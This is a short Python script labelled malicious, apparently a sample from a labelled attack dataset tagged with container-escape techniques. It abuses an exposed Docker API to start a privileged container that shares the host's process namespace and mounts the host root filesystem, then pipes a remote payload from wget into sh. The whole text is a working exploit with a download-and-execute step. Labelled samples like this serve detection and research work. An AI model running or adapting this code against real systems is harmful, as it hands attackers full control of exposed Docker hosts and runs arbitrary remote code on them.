# label: malicious family=k8s techniques=T1059.004,T1105,T1610,T1611 lines=3-7
import requests
api = "http://192.0.2.140:2375"
requests.post(api + "/images/create?fromImage=alpine&tag=latest")
c = requests.post(api + "/containers/create", json={"Image": "alpine", "Cmd": ["sh", "-c", "wget -qO- http://192.0.2.140/m | sh"],
                  "HostConfig": {"Privileged": True, "PidMode": "host", "Binds": ["/:/mnt"]}}).json()
requests.post(api + "/containers/%s/start" % c["Id"])
